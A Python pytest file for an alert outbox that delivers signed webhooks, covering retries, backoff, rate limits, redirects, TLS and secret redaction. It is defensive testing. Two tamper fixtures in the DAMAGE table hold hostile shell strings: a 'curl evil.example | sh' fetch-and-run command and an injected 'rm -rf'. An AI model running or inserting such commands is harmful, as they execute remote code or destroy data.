"""Delivery of alerts to real receivers on loopback that are down, slow or broken, from an outbox on disk."""

from __future__ import annotations

import json
import logging
import os
import socket
import stat
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
from alerting import NOON_MS, SECRET, Clock, alert, alert_keys_received, keys_received, notifier, one_attempt, webhook
from collectors import Answer, answering, collector
from standardwebhooks import Webhook
from support import environment, script, start_python, wait_until

from critiqor.notifications.delivery import FIRST_DELAY_MS, MAX_DELAY_MS, back_off_ms
from critiqor.notifications.notifier import Notifier
from critiqor.notifications.settings import Channel, Source
from critiqor.session import paths_for

SECONDS = 20.0
"""Enough for every delivery that must succeed."""
HOUR_MS = 3_600_000


def statuses(*answers: int, **headers: str) -> Answer:
    """Answer the first requests with these statuses, and all others with 200."""
    left = list(answers)

    def answer(handler: BaseHTTPRequestHandler) -> None:
        status = left.pop(0) if left else 200
        answering(status, b"{}", **(headers if status != 200 else {}))(handler)

    return answer


def closed_address() -> str:
    """An address at which nobody listens."""
    with socket.socket() as unused:
        unused.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{unused.getsockname()[1]}"


def files(folder: Path, kind: str) -> list[Path]:
    return sorted(folder.glob(f".notify/channels/*/{kind}/*"))


def test_an_alert_is_delivered_once_with_its_key_and_a_signature_that_others_can_check(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        assert sender.announce([alert(), alert()]) == 1
        [report] = sender.deliver(SECONDS)
        assert sender.announce([alert()]) == 0
        sender.deliver(SECONDS)
    assert (report.sent, report.waiting, report.reason) == (1, 0, None)
    assert keys_received(receiver) == [alert().idempotency_key]
    [(_, headers, body)] = receiver.requests
    assert headers["content-type"] == "application/json"
    assert Webhook(SECRET).verify(body, headers)["schema_version"] == "critiqor.alert.v1"


def test_a_text_as_secret_signs_as_it_is(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, secret="just a text"))
        sender.announce([alert()])
        sender.deliver(SECONDS)
    [(_, headers, body)] = receiver.requests
    assert Webhook(b"just a text").verify(body, headers)


def test_a_secret_that_is_not_what_it_says_is_an_error_without_it(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, secret="whsec_not-base64"))
        sender.announce([alert()])
        [report] = one_attempt(sender).deliver(SECONDS)
    assert receiver.requests == []
    assert report.reason == "the secret begins with whsec_, but what follows is not Base64"


def test_a_webhook_without_a_secret_is_not_signed(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, secret=None))
        sender.announce([alert()])
        sender.deliver(SECONDS)
    assert "webhook-signature" not in receiver.requests[0][1]


@pytest.mark.parametrize("status", [500, 429, 404])
def test_an_alert_that_was_not_accepted_is_sent_again_with_the_same_key(tmp_path: Path, status: int) -> None:
    with collector(statuses(status)) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        [report] = sender.deliver(SECONDS)
    assert report.sent == 1
    assert keys_received(receiver) == [alert().idempotency_key] * 2


def test_a_receiver_that_is_down_gets_everything_when_it_is_back(tmp_path: Path) -> None:
    address = closed_address()
    sender = notifier(tmp_path, webhook(address))
    sender.announce([alert(1), alert(2)])
    [report] = one_attempt(sender).deliver(SECONDS)
    assert (report.sent, report.waiting, report.is_problem) == (0, 2, True)
    assert "Connection refused" in str(report.reason) and address not in str(report.reason)
    with collector() as receiver:
        [report] = notifier(tmp_path, webhook(receiver.url)).deliver(SECONDS, at_once=True)
    assert (report.sent, report.waiting) == (2, 0)
    assert keys_received(receiver) == [alert(1).idempotency_key, alert(2).idempotency_key]


def test_a_receiver_that_hangs_delays_nobody_and_the_alert_waits(tmp_path: Path) -> None:
    release = threading.Event()

    def hang(handler: BaseHTTPRequestHandler) -> None:
        release.wait()

    with collector(hang) as hanging, collector() as receiver:
        sender = notifier(tmp_path, webhook(hanging.url, "slow"), webhook(receiver.url, "fast"))
        sender.announce([alert()])
        slow, fast = one_attempt(sender).deliver(3.0)
        assert (slow.sent, slow.waiting, slow.is_problem) == (0, 1, True)
        assert "no answer within" in str(slow.reason)
        assert (fast.sent, fast.waiting) == (1, 0)
        release.set()
    with collector() as receiver:
        [report] = notifier(tmp_path, webhook(receiver.url, "slow")).deliver(SECONDS, at_once=True)
        assert report.sent == 1
    assert keys_received(receiver) == keys_received(hanging)[:1] == [alert().idempotency_key]


def test_a_receiver_that_sends_its_answer_byte_by_byte_delays_nobody(tmp_path: Path) -> None:
    release = threading.Event()

    def drip(handler: BaseHTTPRequestHandler) -> None:
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
        while not release.wait(0.02):
            try:
                handler.wfile.write(b"x")
                handler.wfile.flush()
            except OSError:
                return

    with collector(drip) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        [report] = sender.deliver(0.5)
        release.set()
    assert (report.sent, report.waiting) == (0, 1)


def test_a_connection_on_which_the_answer_never_ends_is_closed_by_the_next_start(tmp_path: Path) -> None:
    release = threading.Event()
    seen: list[int] = []

    def drip_once(handler: BaseHTTPRequestHandler) -> None:
        seen.append(1)
        if len(seen) > 1:
            answering()(handler)
            return
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nX-Slow: ")
        while not release.wait(0.02):
            try:
                handler.wfile.write(b"x")
            except OSError:
                return

    with collector(drip_once) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        sender.deliver(0.3)

        def is_delivered() -> bool:
            sender.start(2.0, at_once=True)
            return not files(tmp_path, "waiting")

        wait_until(is_delivered)
        release.set()
    assert keys_received(receiver) == [alert().idempotency_key] * 2


def test_who_was_sent_a_finding_learns_that_it_no_longer_holds(tmp_path: Path) -> None:
    with collector() as receiver, collector() as strict:
        channels = (webhook(receiver.url, "all"), webhook(strict.url, "few", min_severity="critical"))
        sender = notifier(tmp_path, *channels)
        sender.announce([alert()])
        sender.announce([alert(kind="updated", severity="low"), alert(kind="withdrawn", severity="low")])
        sender.deliver(SECONDS)
    assert [json.loads(body)["alerts"][0]["kind"] for body in receiver.bodies] == ["new", "updated", "withdrawn"]
    assert strict.requests == []


def test_texts_in_the_outbox_are_not_sent_once_they_are_switched_off(tmp_path: Path) -> None:
    with collector() as receiver:
        notifier(tmp_path, webhook(receiver.url, texts=True)).announce([alert()])
        assert b"quarterly" in files(tmp_path, "waiting")[0].read_bytes()
        notifier(tmp_path, webhook(receiver.url)).deliver(SECONDS)
    assert json.loads(receiver.bodies[0])["alerts"][0]["texts"] is None


def test_a_connection_that_is_not_encrypted_is_not_used_for_https(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url.replace("http:", "https:")))
        sender.announce([alert()])
        [report] = one_attempt(sender).deliver(SECONDS)
    assert (report.waiting, receiver.requests) == (1, [])
    assert str(report.reason).startswith("TLS failed: ")


def test_a_redirect_is_not_followed(tmp_path: Path) -> None:
    with collector() as other, collector(answering(307, Location=other.url)) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        [report] = one_attempt(sender).deliver(SECONDS)
    assert other.requests == []
    assert (report.waiting, report.reason) == (1, "it answered 307, a redirect, which is not followed")


def test_a_message_that_is_refused_does_not_hold_up_others_and_can_be_sent_again(tmp_path: Path) -> None:
    with collector(statuses(400)) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert(1), alert(2)])
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting, report.refused, report.refusal) == (1, 0, 1, "it answered 400")
        assert sender.announce([alert(1)]) == 0
        [report] = sender.deliver(SECONDS, at_once=True)
    assert (report.sent, report.refused) == (1, 0)
    assert alert_keys_received(receiver) == {alert(1).idempotency_key, alert(2).idempotency_key}


def test_a_receiver_is_given_the_time_that_it_asks_for(tmp_path: Path) -> None:
    clock = Clock()
    with collector(statuses(429, **{"Retry-After": "600"})) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url), clock=clock)
        sender.announce([alert()])
        sender.deliver(SECONDS)
        clock.now_ms += 570_000
        [report] = sender.deliver(SECONDS)
        assert (report.sent, len(receiver.requests)) == (0, 1)
        clock.now_ms += 30_000
        [report] = sender.deliver(SECONDS)
    assert report.sent == 1


def test_attempts_become_rarer_and_never_stop() -> None:
    delays = [back_off_ms(failures) for failures in range(1, 60)]
    assert 0.7 * FIRST_DELAY_MS < delays[0] < 1.3 * FIRST_DELAY_MS
    assert all(later > 1.1 * earlier for earlier, later in zip(delays[:8:2], delays[2:10:2], strict=True))
    assert 0.7 * MAX_DELAY_MS < delays[-1] <= MAX_DELAY_MS
    assert back_off_ms(1, retry_after=1e9) == MAX_DELAY_MS


@pytest.mark.parametrize("jump_ms", [-10 * 365 * 24 * HOUR_MS, -5000, 2 * HOUR_MS])
def test_a_clock_that_jumps_after_a_failure_stops_nothing(tmp_path: Path, jump_ms: int) -> None:
    clock = Clock()
    with collector(statuses(500, **{"Retry-After": "3000"})) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url), clock=clock)
        sender.announce([alert()])
        sender.deliver(SECONDS)
        clock.now_ms += jump_ms
        [report] = sender.deliver(SECONDS)
    assert (report.sent, keys_received(receiver)) == (1, [alert().idempotency_key] * 2)


def test_beyond_the_limit_alerts_are_summed_up_and_none_is_lost(tmp_path: Path) -> None:
    clock = Clock()
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, max_per_hour=3), clock=clock)
        sender.announce(alert(number) for number in range(10))
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting) == (3, 0)
        sender.announce(alert(number) for number in range(10, 15))
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting, report.is_problem) == (0, 5, False)
        assert "limit" in str(report.reason)
        clock.now_ms += HOUR_MS
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting) == (3, 0)
    kinds = [(message["kind"], len(message["alerts"])) for message in map(json.loads, receiver.bodies)]
    assert kinds == [("alert", 1), ("alert", 1), ("summary", 8), ("alert", 1), ("alert", 1), ("summary", 3)]
    assert alert_keys_received(receiver) == {alert(number).idempotency_key for number in range(15)}


def test_alerts_that_were_summed_up_are_not_announced_again(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, max_per_hour=1))
        sender.announce(alert(number) for number in range(5))
        sender.deliver(SECONDS)
        assert sender.announce(alert(number) for number in range(5)) == 0
    assert len(receiver.requests) == 1


def test_a_summary_that_was_not_accepted_is_sent_again_with_the_same_key(tmp_path: Path) -> None:
    with collector(statuses(500, 500)) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, max_per_hour=1))
        sender.announce([alert(1), alert(2)])
        one_attempt(sender).deliver(SECONDS)
        sender.announce([alert(3)])
        [report] = sender.deliver(SECONDS, at_once=True)
    assert (report.sent, report.waiting) == (1, 1)
    assert len(set(keys_received(receiver))) == 1 and len(receiver.requests) == 3


def test_a_summary_that_is_damaged_loses_nothing(tmp_path: Path) -> None:
    with collector(statuses(500)) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, max_per_hour=1))
        sender.announce([alert(1), alert(2)])
        one_attempt(sender).deliver(SECONDS)
        [path] = [each for each in files(tmp_path, "waiting") if each.name.startswith("summary-")]
        path.write_bytes(b"{")
        [report] = sender.deliver(SECONDS, at_once=True)
    assert (report.sent, report.waiting, report.damaged) == (1, 0, 1)
    assert alert_keys_received(receiver) == {alert(1).idempotency_key, alert(2).idempotency_key}


def test_a_summary_that_is_refused_is_set_aside_with_all_that_it_sums_up(tmp_path: Path) -> None:
    with collector(statuses(413)) as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, max_per_hour=1))
        sender.announce([alert(1), alert(2)])
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting, report.refused) == (0, 0, 2)
        [report] = sender.deliver(SECONDS, at_once=True)
        assert (report.sent, report.waiting, report.refused) == (1, 0, 0)
    assert len(set(keys_received(receiver))) == 1
    assert files(tmp_path, "waiting") == files(tmp_path, "refused") == []


def test_a_clock_that_is_set_back_does_not_use_up_the_limit_for_ever(tmp_path: Path) -> None:
    clock = Clock()
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, max_per_hour=1), clock=clock)
        sender.announce([alert(1)])
        sender.deliver(SECONDS)
        clock.now_ms -= 365 * 24 * HOUR_MS
        sender.announce([alert(2)])
        [report] = sender.deliver(SECONDS)
    assert report.sent == 1


def test_alerts_wait_for_the_end_of_the_quiet_hours(tmp_path: Path) -> None:
    from datetime import datetime, timedelta

    now = datetime.fromtimestamp(NOON_MS / 1000)
    hours = "-".join((now + timedelta(minutes=minutes)).strftime("%H:%M") for minutes in (-30, 30))
    clock = Clock()
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url, quiet_hours=hours), clock=clock)
        sender.announce([alert()])
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting, report.is_problem, receiver.requests) == (0, 1, False, [])
        assert str(report.reason).startswith("quiet hours until ")
        clock.now_ms += HOUR_MS
        [report] = sender.deliver(SECONDS)
    assert report.sent == 1


def rewritten(change: Callable[[bytes], bytes]) -> Callable[[Path], object]:
    return lambda path: path.write_bytes(change(path.read_bytes()))


def replaced(make: Callable[[Path], None]) -> Callable[[Path], object]:
    def replace(path: Path) -> None:
        path.unlink()
        make(path)

    return replace


DAMAGE: dict[str, Callable[[Path], object]] = {
    "empty": rewritten(lambda content: b""),
    "cut": rewritten(lambda content: content[:-20]),
    "binary": rewritten(lambda content: bytes(range(256))),
    "other JSON": rewritten(lambda content: b'{"message": 5}'),
    "deep": rewritten(lambda content: b"[" * 100_000),
    "no alert": rewritten(lambda content: content.replace(b'"alerts":[{', b'"alerts":[],"x":[{')),
    "other kind": rewritten(lambda content: content.replace(b'"kind":"alert"', b'"kind":"summary"')),
    "other version": rewritten(lambda content: content.replace(b"critiqor.alert.v1", b"critiqor.alert.v0")),
    "other command": rewritten(lambda content: content.replace(b"critiqor explain", b"curl evil.example | sh;")),
    "two commands": rewritten(lambda content: content.replace(b"critiqor explain", b"critiqor explain; rm -rf")),
    "folder": replaced(Path.mkdir),
    "link": replaced(lambda path: path.symlink_to("/dev/zero")),
    "pipe": replaced(os.mkfifo),
}


@pytest.mark.parametrize("damage", DAMAGE)
def test_a_damaged_file_of_the_outbox_loses_no_other_alert(tmp_path: Path, damage: str) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce(alert(number) for number in range(3))
        [path] = [each for each in files(tmp_path, "waiting") if alert(1).idempotency_key in each.name]
        DAMAGE[damage](path)
        [report] = sender.deliver(SECONDS)
        assert (report.sent, report.waiting, report.damaged) == (2, 0, 1)
        # It was never sent, so it is announced again.
        assert sender.announce([alert(1)]) == 1
        sender.deliver(SECONDS)
    assert alert_keys_received(receiver) == {alert(number).idempotency_key for number in range(3)}


@pytest.mark.parametrize(
    "content",
    [b'{"failures": "x"', b'{"failures": 9, "failed_ms": 5, "retry_ms": 9000000000000000}', b'{"failures": -5}'],
)
def test_a_damaged_state_of_a_channel_stops_nothing(tmp_path: Path, content: bytes) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        (tmp_path / ".notify" / "channels" / "ops").mkdir(parents=True)
        (tmp_path / ".notify" / "channels" / "ops" / "state.json").write_bytes(content)
        sender.announce([alert()])
        [report] = sender.deliver(SECONDS)
    assert report.sent == 1


def test_several_senders_at_once_send_every_alert_once(tmp_path: Path) -> None:
    code = """
import sys
from pathlib import Path
from alerting import alert, notifier, webhook
sender = notifier(Path(sys.argv[1]), webhook(sys.argv[2]))
sender.announce(alert(number) for number in range(40))
sender.deliver(20.0)
"""
    folders = {"PYTHONPATH": str(Path(__file__).parent.parent)}
    with collector() as receiver:
        arguments = (code, tmp_path, receiver.url)
        senders = [start_python(*arguments, env=environment(tmp_path, **folders)) for _ in range(3)]
        assert [sender.communicate() and sender.returncode for sender in senders] == [0] * 3
    assert files(tmp_path, "waiting") == []
    assert sorted(keys_received(receiver)) == sorted(alert(number).idempotency_key for number in range(40))


def test_a_sender_gives_up_while_another_one_is_sending(tmp_path: Path) -> None:
    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        with sender.outbox.channel("ops").sending(SECONDS):
            [report] = sender.deliver(0.3)
            assert (report.sent, report.waiting, receiver.requests) == (0, 1, [])
        [report] = notifier(tmp_path, webhook(receiver.url)).deliver(SECONDS)
    assert report.sent == 1


def test_alerts_of_deleted_runs_are_forgotten_and_those_of_others_are_not(tmp_path: Path) -> None:
    from critiqor.notifications.finalized import forget_deleted_runs

    with collector() as receiver:
        sender = notifier(tmp_path, webhook(receiver.url))
        sender.announce([alert()])
        sender.deliver(SECONDS)
        (tmp_path / "run_001").mkdir()
        forget_deleted_runs(sender)
        assert len(files(tmp_path, "sent")) == 1
        (tmp_path / "run_001").rmdir()
        forget_deleted_runs(sender)
    assert files(tmp_path, "sent") == []


def test_each_kind_of_channel_gets_the_form_that_it_expects(tmp_path: Path) -> None:
    written = tmp_path / "written"
    lines: list[str] = []
    program = script(tmp_path / "program", f'#!/bin/sh\ncat > "{written}"\n')
    with collector() as slack, collector(answering(204, b"")) as discord, collector() as apprise:
        channels = [
            Channel(name="chat", kind="slack", url=slack.url),
            Channel(name="guild", kind="discord", url=discord.url),
            Channel(name="program", kind="command", command=(str(program),)),
            Channel(name="screen", kind="terminal"),
            Channel(name="others", kind="apprise", url=apprise.url.replace("http:", "json:")),
        ]
        sender = Notifier(channels, paths_for(tmp_path / "runs"), write_line=lines.append)
        sender.announce([alert()])
        reports = sender.deliver(SECONDS)
    assert [(report.sent, report.reason) for report in reports] == [(1, None)] * 5
    assert json.loads(slack.bodies[0])["text"].startswith("*high tool_loop* (`run_001`, ")
    assert json.loads(discord.bodies[0])["content"].startswith("**high tool_loop** (`run_001`, ")
    assert json.loads(written.read_bytes())["idempotency_key"] == alert().idempotency_key
    assert lines[0].startswith("high tool_loop (run_001")
    assert "high tool_loop (run_001" in json.loads(apprise.bodies[0])["message"]


@pytest.mark.parametrize(
    ("lines", "reason"),
    [
        ("exit 7", "its command ended with exit code 7"),
        ("sleep 60 & sleep 60", " within 1 seconds"),
    ],
)
def test_a_command_that_fails_or_hangs_leaves_the_alert_in_the_outbox(tmp_path: Path, lines: str, reason: str) -> None:
    program = script(tmp_path / "program", f"#!/bin/sh\n{lines}\n")
    sender = notifier(tmp_path, Channel(name="ops", kind="command", command=(str(program),)))
    sender.announce([alert()])
    [report] = one_attempt(sender).deliver(1.0 if "within" in reason else SECONDS)
    assert (report.sent, report.waiting) == (0, 1)
    assert reason in str(report.reason)


@pytest.mark.parametrize("command", [("/no/such/program",), ("",), ("a\x00b",)])
def test_a_command_that_cannot_be_started_leaves_the_alert_in_the_outbox(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    sender = notifier(tmp_path, Channel(name="ops", kind="command", command=command))
    sender.announce([alert()])
    [report] = one_attempt(sender).deliver(SECONDS)
    assert (report.waiting, str(report.reason)[:30]) == (1, "its command cannot be started:")


def test_a_process_without_a_terminal_leaves_such_alerts_to_the_next_one(tmp_path: Path) -> None:
    screen, lines = Channel(name="screen", kind="terminal"), list[str]()
    sender = notifier(tmp_path, screen)
    sender.announce([alert()])
    [report] = sender.deliver(SECONDS)
    assert (report.sent, report.waiting, report.is_problem) == (0, 1, False)
    Notifier([screen], paths_for(tmp_path), write_line=lines.append).deliver(SECONDS)
    assert len(lines) == 1


def test_what_only_the_settings_can_repair_is_tried_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("OPS_URL", raising=False)
    sender = notifier(tmp_path, Channel(name="ops", kind="slack", url=Source(env="OPS_URL")))
    sender.announce([alert()])
    [report] = sender.deliver(SECONDS)
    assert (report.waiting, report.reason) == (1, "the variable OPS_URL, which holds the url, is not set")
    assert sender.outbox.channel("ops").state().failures == 1


@pytest.mark.parametrize("kind", ["webhook", "apprise"])
@pytest.mark.parametrize("failure", ["down", "unknown host", "no address", "status"])
def test_no_secret_gets_into_files_reports_or_logs(
    tmp_path: Path, kind: str, failure: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
) -> None:
    caplog.set_level(logging.DEBUG)
    monkeypatch.setenv("OPS_KEY", "top-secret-key")
    with collector(answering(500)) as receiver:
        address = {
            "down": f"{closed_address()}/path-ZZMARK",
            "unknown host": "http://ZZMARK.invalid/path-ZZMARK",
            "no address": "nonsense ZZMARK",
            "status": f"{receiver.url}/path-ZZMARK",
        }[failure]
        if kind == "apprise":
            address = address.replace("http:", "json:")
            channel = Channel(name="ops", kind="apprise", url=address)
        else:
            channel = webhook(address, secret=Source(env="OPS_KEY"))
        sender = notifier(tmp_path, channel)
        sender.announce([alert()])
        [report] = one_attempt(sender).deliver(SECONDS)
        [trial] = sender.try_channels([channel], SECONDS)
    assert (report.waiting, report.is_problem, trial.is_problem) == (1, True, True)
    written = [path.read_text() for path in tmp_path.rglob("*") if path.is_file()]
    logged = [record.getMessage() for record in caplog.records]
    for text in (*written, *logged, str(report), str(trial)):
        assert "zzmark" not in text.lower() and "top-secret-key" not in text


def test_the_outbox_can_be_read_by_the_user_only(tmp_path: Path) -> None:
    notifier(tmp_path, webhook(closed_address())).announce([alert()])
    for path in (tmp_path / ".notify").rglob("*"):
        assert stat.S_IMODE(path.stat().st_mode) & 0o077 == 0
